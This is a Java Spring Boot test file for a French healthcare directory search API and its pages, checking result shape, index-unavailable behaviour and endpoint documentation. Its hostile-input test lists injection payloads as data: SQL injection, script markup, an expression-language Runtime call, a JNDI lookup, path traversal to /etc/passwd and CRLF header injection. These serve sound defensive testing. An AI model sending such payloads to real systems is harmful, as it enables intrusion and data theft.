package fr.balise.directory.web;

import static java.util.stream.Collectors.toSet;
import static org.assertj.core.api.Assertions.assertThat;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;

import fr.balise.directory.search.SearchFixture;
import fr.balise.testing.FreshDatabase;
import jakarta.servlet.Filter;
import java.io.IOException;
import java.net.URI;
import java.util.HashSet;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.stream.Stream;
import org.jspecify.annotations.NullUnmarked;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.context.annotation.Import;
import org.springframework.core.io.ClassPathResource;
import org.springframework.mock.web.MockHttpServletResponse;
import org.springframework.test.context.ContextConfiguration;
import org.springframework.test.web.servlet.MockMvc;
import org.springframework.test.web.servlet.setup.MockMvcBuilders;
import org.springframework.web.context.WebApplicationContext;
import org.springframework.web.servlet.mvc.method.annotation.RequestMappingHandlerMapping;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

@NullUnmarked
@SpringBootTest(
        properties = {"balise.directory.search.burst=1000000", "balise.directory.search.requests-per-minute=1000000"})
@ContextConfiguration(initializers = FreshDatabase.class)
@Import(SearchFixture.class)
class SearchDoorsModuleTests {
    private static final JsonMapper JSON = JsonMapper.shared();

    @Autowired
    WebApplicationContext context;

    @Autowired
    SearchFixture fixture;

    @Autowired
    RequestMappingHandlerMapping requestMappingHandlerMapping;

    MockMvc http;

    @BeforeEach
    void start() {
        http = MockMvcBuilders.webAppContextSetup(context)
                .addFilters(context.getBean("fr.balise.portal.web.Later", Filter.class))
                .build();
        fixture.invent();
    }

    @Test
    void theReplyKeepsItsShape() throws Exception {
        var reply = json(call("/api/directory/search?q=lefevre%20lyon"));
        var hit = reply.at("/results/0");
        assertThat(hit.at("/kind").asString()).isEqualTo("person");
        assertThat(hit.at("/person/family").asString()).isEqualTo("LEFÈVRE");
        assertThat(hit.at("/person/rppsEnd").asString()).isEqualTo("0013");
        assertThat(hit.at("/situation/city").asString()).isEqualTo("LYON");
        assertThat(hit.at("/situation/structure/name").asString()).isEqualTo("CLINIQUE SAINTE-ANNE");
        assertThat(hit.at("/mailboxes/0/address").asString()).isEqualTo("marie-helene.lefevre@a.mssante.fr");
        assertThat(hit.at("/mailboxes/0/type").asString()).isEqualTo("PER");
        assertThat(hit.at("/mailboxes/0/rank").isNull()).isTrue();
        assertThat(hit.at("/score").isNumber()).isTrue();
        assertThat(reply.at("/tookMs").isNumber()).isTrue();
        assertThat(reply.at("/directory/mailboxes").asString()).isEqualTo("2026-11-12");
    }

    static Stream<Arguments> hostile() {
        var long10k = "x".repeat(10_000);
        return Stream.of(
                Arguments.of("no question", "", 200),
                Arguments.of("an empty question", "?q=", 200),
                Arguments.of("only spaces", "?q=%20%20", 200),
                Arguments.of("Lucene operators", "?q=%2B-%26%26%7C%7C!()%7B%7D%5B%5D%5E%22~*?:%5C/", 200),
                Arguments.of("a match-all query", "?q=*:*", 200),
                Arguments.of("a regular expression", "?q=/.*(a%7Ca)*b/", 200),
                Arguments.of("an unclosed quote", "?q=%22lefevre", 200),
                Arguments.of("SQL", "?q='%20or%201=1;drop%20table%20person--", 200),
                Arguments.of("markup", "?q=%3Cscript%3Ealert(1)%3C/script%3E", 200),
                Arguments.of("a template expression", "?q=$%7BT(java.lang.Runtime)%7D", 200),
                Arguments.of("a lookup", "?q=$%7Bjndi:ldap://x/%7D", 200),
                Arguments.of("a path", "?q=../../etc/passwd", 200),
                Arguments.of("NUL", "?q=a%00b", 200),
                Arguments.of("line breaks", "?q=a%0D%0ASet-Cookie:x", 200),
                Arguments.of("emoji", "?q=%F0%9F%98%80%F0%9F%91%A9%E2%80%8D%E2%9A%95%EF%B8%8F", 200),
                Arguments.of("right-to-left override", "?q=%E2%80%AElefevre", 200),
                Arguments.of("Arabic", "?q=%D9%85%D8%B1%D9%8A%D9%85", 200),
                Arguments.of("a heap of combining marks", "?q=e" + "%CC%81".repeat(150), 200),
                Arguments.of("invalid UTF-8", "?q=%FF%FE%C0%80", 200),
                Arguments.of("a lone surrogate", "?q=%ED%A0%80", 200),
                Arguments.of("200 one-letter words", "?q=" + "a%20".repeat(100), 200),
                Arguments.of("a very long word", "?q=" + "a".repeat(200), 200),
                Arguments.of("10 kB", "?q=" + long10k, 400),
                Arguments.of("limit nought", "?q=a&limit=0", 400),
                Arguments.of("negative limit", "?q=a&limit=-1", 400),
                Arguments.of("limit in words", "?q=a&limit=many", 400),
                Arguments.of("limit beyond int", "?q=a&limit=99999999999", 400),
                Arguments.of("huge limit", "?q=marie&limit=100000", 200),
                Arguments.of("unknown mailbox type", "?q=a&type=XYZ", 400),
                Arguments.of("profession with markup", "?q=a&profession=%3Cb%3E", 400),
                Arguments.of("department with a wildcard", "?q=a&department=*", 400),
                Arguments.of("parameters twice", "?q=a&q=b&limit=1&limit=2", 400),
                Arguments.of("unknown parameters", "?q=lefevre&debug=true&offset=-5", 200));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("hostile")
    void hostileInputGetsAnOrderlyReply(String kind, String query, int status) throws Exception {
        var reply = call("/api/directory/search" + query);
        assertThat(reply.getStatus()).isEqualTo(status);
        if (status == 200) assertThat(json(reply).at("/results").size()).isLessThanOrEqualTo(50);
        else {
            assertThat(reply.getContentType()).startsWith("application/problem+json");
            assertThat(json(reply).at("/status").asInt()).isEqualTo(status);
        }
        var page = call("/annuaire" + query);
        assertThat(page.getStatus()).isIn(200, 400);
        assertThat(page.getContentAsString()).doesNotContain("<script>alert").doesNotContain("Exception");
        assertThat(json(call("/api/directory/search?q=lefevre")).at("/results").size())
                .isPositive();
    }

    @Test
    void withoutAnIndexTheApiSaysHowFarItIs() throws Exception {
        fixture.withoutIndex(() -> {
            var reply = call("/api/directory/search?q=lefevre");
            assertThat(reply.getStatus()).isEqualTo(503);
            assertThat(reply.getHeader("Retry-After")).isEqualTo("5");
            assertThat(reply.getContentType()).startsWith("application/problem+json");
            assertThat(json(reply).at("/progress").isInt()).isTrue();
            var page = call("/annuaire?q=lefevre");
            assertThat(page.getStatus()).isEqualTo(503);
            assertThat(page.getContentAsString()).contains("en préparation");
            for (var address :
                    List.of("/annuaire?q=lefevre&type=PER", "/annuaire/personnes/1", "/annuaire/structures/1")) {
                var waiting = call(address);
                assertThat(waiting.getStatus()).as(address).isEqualTo(503);
                assertThat(waiting.getHeader("Retry-After")).as(address).isEqualTo("5");
                assertThat(waiting.getContentAsString())
                        .as("asks again by itself, and by a button")
                        .contains("every 5s")
                        .contains("hx-get=\"" + address.replace("&", "&amp;") + "\"")
                        .contains("href=\"" + address.replace("&", "&amp;") + "\"");
            }
            return null;
        });
    }

    @Test
    void thePageShowsWhatTellsHomonymsApart() throws Exception {
        var page = call("/annuaire?q=lefevre%20marie").getContentAsString();
        assertThat(page)
                .contains(
                        "RPPS …0013",
                        "RPPS …0021",
                        "Cardiologie et maladies vasculaires",
                        "Médecine générale",
                        "LYON",
                        "PARIS")
                .contains("marie-helene.lefevre@a.mssante.fr", "Annuaire du 12/11");
        assertThat(page).contains("<html").doesNotContain("??");
    }

    @Test
    void aLiveSearchGetsTheResultsOnly() throws Exception {
        var part = http.perform(get("/annuaire?q=lefevre").header("HX-Request", "true"))
                .andReturn()
                .getResponse()
                .getContentAsString();
        assertThat(part).contains("id=\"results\"").doesNotContain("<html", "<form");
    }

    @Test
    void everyStateOfThePageNamesANextStep() throws Exception {
        for (var query : Map.of(
                        "", "Qui cherchez-vous", "?q=zzzzqqqq", "Aucune réponse", "?q=a&type=XYZ", "pas lisible")
                .entrySet())
            assertThat(call("/annuaire" + query.getKey()).getContentAsString())
                    .contains(query.getValue())
                    .doesNotContain("??");
    }

    @Test
    void aPersonAndAStructureHaveTheirPages() throws Exception {
        var person = call("/annuaire/personnes/" + fixture.lefevre()).getContentAsString();
        assertThat(person)
                .contains("LEFÈVRE", "CLINIQUE SAINTE-ANNE", "CABINET DU PARC", "lefevre@c.mssante.fr")
                .doesNotContain("??");
        var structure = call("/annuaire/structures/" + fixture.clinic()).getContentAsString();
        assertThat(structure)
                .contains("CLINIQUE SAINTE-ANNE", "Accueil@clinique.mssante.fr", "990000017")
                .doesNotContain("??", "lefevre@");
        assertThat(call("/annuaire/personnes/999999").getStatus()).isEqualTo(404);
        assertThat(call("/annuaire/structures/999999").getStatus()).isEqualTo(404);
    }

    @Test
    void theDescriptionListsExactlyTheRealMappings() throws IOException {
        var real = new HashSet<String>();
        requestMappingHandlerMapping
                .getHandlerMethods()
                .keySet()
                .forEach(info -> info.getPatternValues().stream()
                        .filter(p -> p.startsWith("/api/") && !p.startsWith("/api/admin/"))
                        .forEach(p -> info.getMethodsCondition()
                                .getMethods()
                                .forEach(m -> real.add(m.name().toLowerCase(Locale.ROOT) + " " + p))));
        var document = JSON.readTree(new ClassPathResource("api/openapi.json").getInputStream());
        assertThat(document.at("/openapi").asString()).startsWith("3.1");
        var described = document.get("paths")
                .propertyStream()
                .flatMap(path -> path.getValue().propertyStream().map(o -> o.getKey() + " " + path.getKey()))
                .collect(toSet());
        assertThat(described).isEqualTo(real);
    }

    private JsonNode json(MockHttpServletResponse reply) throws Exception {
        return JSON.readTree(reply.getContentAsString());
    }

    private MockHttpServletResponse call(String url) throws Exception {
        return http.perform(get(URI.create(
                                "http://127.0.0.1" + url.replace("\"", "%22").replace("^", "%5E")))
                        .locale(Locale.FRANCE))
                .andReturn()
                .getResponse();
    }
}
